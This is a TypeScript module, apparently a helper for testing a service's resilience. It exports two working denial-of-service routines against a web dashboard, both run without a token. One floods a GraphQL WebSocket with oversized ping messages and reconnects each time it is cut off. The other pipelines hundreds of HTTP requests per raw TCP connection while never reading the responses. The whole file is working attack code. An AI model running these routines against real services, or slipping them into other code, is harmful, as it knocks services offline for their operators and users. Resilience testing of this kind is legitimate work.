import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';

/** A message of the protocol that asks for nothing and is costly to read. */
const PING = JSON.stringify({ type: 'ping', payload: { ignored: Array.from({ length: 21_000 }, () => ({})) } });
const AT_ONCE = 4;
/** Until the next socket, after the service has closed one. */
const PAUSE_MS = 250;

/** A socket without a token that pings as fast as it is answered, and another as soon as it is closed, until the signal. */
export async function flood(baseUrl: string, headers: Record<string, string>, signal: AbortSignal): Promise<void> {
  const address = baseUrl.replace(/^http/, 'ws');
  while (!signal.aborted) {
    const socket = new WebSocket(`${address}/graphql`, 'graphql-transport-ws', { headers });
    const end = () => socket.terminate();
    signal.addEventListener('abort', end, { once: true });
    socket.on('open', () => {
      for (let no = 0; no < AT_ONCE; no += 1) socket.send(PING);
    });
    socket.on('message', () => socket.send(PING));
    socket.on('error', () => undefined);
    await new Promise((resolve) => socket.once('close', resolve));
    signal.removeEventListener('abort', end);
    await sleep(PAUSE_MS, undefined, { signal }).catch(() => undefined);
  }
}

/** Connections at once, requests that each sends in one piece, and for how long it reads nothing of their answers. */
const UNREAD = 20;
const [FEW, FAR_TOO_MANY] = [21, 600];
const UNREAD_MS = 5_000;

/** Connections without a token that ask for a script of the dashboard many times and read nothing, and others after them, until the signal. */
export async function ignoreAnswers(
  baseUrl: string,
  headers: Record<string, string>,
  signal: AbortSignal,
): Promise<void> {
  const { hostname, port } = new URL(baseUrl);
  const page = await (await fetch(baseUrl, { headers: { ...headers, accept: 'text/html' } })).text();
  const [path = '/'] = /\/assets\/[\w.-]+\.js/.exec(page) ?? [];
  const lines = Object.entries({ host: 'x', ...headers }).map(([name, value]) => `${name}: ${value}\r\n`);
  const request = `GET ${path} HTTP/1.1\r\n${lines.join('')}\r\n`;
  while (!signal.aborted) {
    const sockets = Array.from({ length: UNREAD }, () => connect(Number(port), hostname).pause());
    for (const [no, socket] of sockets.entries()) {
      socket.on('error', () => undefined);
      socket.write(request.repeat(no % 2 === 0 ? FEW : FAR_TOO_MANY));
    }
    await sleep(UNREAD_MS, undefined, { signal }).catch(() => undefined);
    for (const socket of sockets) socket.destroy();
  }
}
